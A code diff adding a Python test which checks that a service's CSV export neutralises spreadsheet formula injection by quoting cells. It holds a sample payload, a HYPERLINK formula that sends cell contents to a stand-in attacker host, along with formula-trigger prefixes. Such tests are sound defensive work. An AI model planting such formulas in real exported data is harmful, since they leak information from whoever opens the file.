@@ -222,3 +222,26 @@ def test_bad_log_filters_answer_422_never_500(app, query):
     )
     assert resp.status_code == 422, resp.get_data(as_text=True)
     assert resp.get_json()["error"]["code"] == "validation_error"
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_evaluate(app):
+    """Issue 20, finding 4: a room header `-= =1+2*3 =-` and an observation holding
+    `=HYPERLINK(...)` reached the CSV verbatim; every such cell now starts with `'`."""
+    from service.review import csv_cell
+
+    client = app.test_client()
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
+    observation = f"-= =1+2*3 =-\n{hyperlink}\nThere is an exit to the north."
+    made = client.post("/v1/act", json={"observation": observation}).get_json()
+    app.extensions["folnn"].decisions.flush()
+    headers = {"Authorization": "Bearer test-operator-token"}
+    text = client.get("/v1/decisions/export?format=csv", headers=headers).get_data(as_text=True)
+    row = next(
+        r for r in csv.DictReader(io.StringIO(text)) if r["request_id"] == made["request_id"]
+    )
+    assert row["room"] == "'=1+2*3"
+    assert row["observation"].startswith("'-= =1+2*3 =-")
+    for value in ("=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"):
+        assert csv_cell(value) == "'" + value
+    assert csv_cell("go north") == "go north" and csv_cell(3) == 3 and csv_cell(None) == ""
+    assert csv_cell(True) == "true" and csv_cell(["=x"]) == '["=x"]'
